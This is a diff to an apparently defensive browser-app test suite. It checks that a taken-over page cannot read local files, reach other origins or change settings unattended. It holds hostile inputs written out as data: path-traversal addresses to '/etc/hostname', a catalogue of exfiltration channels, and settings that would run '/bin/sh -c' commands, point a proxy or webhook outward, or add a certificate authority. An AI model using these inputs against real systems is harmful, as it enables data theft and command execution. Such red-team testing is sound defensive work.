@@ -9,6 +9,7 @@ import { pathToFileURL } from 'node:url';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import type { RunningApp } from './launch-app.ts';
 import { launchApp } from './launch-app.ts';
+import { waysOut, waysToFile } from './red-team-ways.ts';
 
 // Everything here is said by a page that an attacker has taken over: it tries to get out, and must not.
 let running: RunningApp;
@@ -45,57 +46,12 @@ const attempt = (script: string): Promise<unknown> =>
     new Promise((resolve) => setTimeout(resolve, 1000, 'silence')),
     (async () => { ${script} })().then((value) => value === undefined ? 'nothing' : 'reached: ' + String(value), (error) => 'refused'),
   ])`);
-/** Waits for an element to load or to fail. */
-const load = (tag: string, attributes: string): string =>
-  `return await new Promise((resolve, reject) => {
-    const element = Object.assign(document.createElement('${tag}'), ${attributes});
-    element.onload = () => resolve(element.contentDocument === undefined ? 'loaded' : (element.contentDocument?.body?.innerText || undefined));
-    element.onerror = reject;
-    document.body.append(element);
-  })`;
-
-const waysToFile: readonly (readonly [string, string])[] = [
-  ['fetch', 'return await (await fetch(ADDRESS)).text()'],
-  ['XHR', "const x = new XMLHttpRequest(); x.open('GET', ADDRESS, false); x.send(); return x.responseText"],
-  ['import', 'return await import(ADDRESS)'],
-  ['a script', load('script', '{ src: ADDRESS }')],
-  ['a frame', load('iframe', '{ src: ADDRESS }')],
-  ['an object', load('object', '{ data: ADDRESS }')],
-  ['a style sheet', load('link', "{ rel: 'stylesheet', href: ADDRESS }")],
-  [
-    'a worker',
-    'return await new Promise((resolve, reject) => { const w = new Worker(ADDRESS); w.onmessage = resolve; w.onerror = reject; })',
-  ],
-];
-
 test.each(waysToFile)('no file is read by %s', async (_way, script) => {
   for (const address of [fileAddress, 'gantry-app://window/../../../../etc/hostname', 'gantry-app://window/%2e%2e/main/main.js']) {
     expect(await attempt(script.replaceAll('ADDRESS', JSON.stringify(address)))).not.toMatch(/^reached/);
   }
   expect(await inPage('window.stolen')).toBeUndefined();
 });
-
-const waysOut: readonly (readonly [string, string])[] = [
-  ...waysToFile,
-  ['a picture', load('img', '{ src: ADDRESS }')],
-  ['a beacon', 'navigator.sendBeacon(ADDRESS, "x")'],
-  [
-    'an event source',
-    'return await new Promise((resolve, reject) => { const e = new EventSource(ADDRESS); e.onopen = resolve; e.onerror = reject; })',
-  ],
-  [
-    'a socket',
-    "return await new Promise((resolve, reject) => { const s = new WebSocket(ADDRESS.replace('http', 'ws')); s.onopen = resolve; s.onerror = reject; })",
-  ],
-  [
-    'a form',
-    "const f = document.createElement('form'); f.method = 'POST'; f.action = ADDRESS; f.target = 'sink'; document.body.append(f); f.submit()",
-  ],
-  ['a prefetch', load('link', "{ rel: 'prefetch', href: ADDRESS }")],
-  ['a preconnect', load('link', "{ rel: 'preconnect', href: ADDRESS }")],
-  ['a font', "return await new FontFace('x', 'url(' + ADDRESS + ')').load()"],
-  ['a ping', "const a = document.createElement('a'); a.href = '#'; a.ping = ADDRESS; document.body.append(a); a.click()"],
-];
 
 test.each(waysOut)('no other origin is reached by %s', async (way, script) => {
   const address = `http://${origin}/${encodeURIComponent(way)}`;
@@ -247,4 +203,33 @@ test('nothing is downloaded', async () => {
   await sleep(200);
   expect(new URL(running.page.url()).pathname).toBe('/index.html');
   expect(visits).toEqual([]);
+});
+
+const changesOfSettings: readonly (readonly [string, string])[] = [
+  ['a program', "{ afterQueue: { action: 'command', program: '/bin/sh', programArguments: ['-c', 'touch /tmp/taken'] } }"],
+  ['a webhook', "{ afterQueue: { action: 'webhook', webhookUrl: 'http://ORIGIN/' } }"],
+  ['a proxy', "{ network: { proxy: 'manual', proxyUrl: 'http://ORIGIN' } }"],
+  ['a PAC file', "{ network: { proxy: 'pac', pacUrl: 'http://ORIGIN/p.pac' } }"],
+  ['an authority', "{ network: { certificateAuthorities: ['-----BEGIN CERTIFICATE-----AAAA-----END CERTIFICATE-----'] } }"],
+  ['a shutdown', "{ afterQueue: { action: 'shut-down' } }"],
+  ['leaving everything out', "{ transfers: { leaveOut: ['**'] } }"],
+];
+
+test.each(changesOfSettings)('the settings do not get %s without a person', async (_what, change) => {
+  const before = await inPage("gantry.request('exportSettings', {})");
+  for (const name of ['changeSettings', 'proposeSettings', 'updateSettings']) {
+    const answer = await inPage(`gantry.request('${name}', { change: ${change.replace('ORIGIN', origin)} })`);
+    expect(answer).not.toMatchObject({ ok: true, value: { isDone: true } });
+    if (name !== 'proposeSettings') expect(answer).toMatchObject({ ok: false });
+  }
+  const text = `JSON.stringify({ version: 1, ...${change.replace('ORIGIN', origin)} })`;
+  expect(await inPage(`gantry.request('importSettings', { text: ${text} })`)).toMatchObject({ ok: false });
+  expect(await inPage("gantry.request('exportSettings', {})")).toEqual(before);
+  expect(visits).toEqual([]);
+});
+
+test('a file for the settings is named by no page, and a password for a proxy is not kept without a person', async () => {
+  for (const name of ['chooseProgram', 'chooseCertificates', 'chooseImport', 'chooseExport'])
+    expect(await inPage(`gantry.request('${name}', { path: '/bin/sh' })`)).toMatchObject({ ok: false, error: { code: 'bad-request' } });
+  expect(await inPage("gantry.request('saveProxyPassword', { password: 'x' })")).toMatchObject({ ok: false });
 });
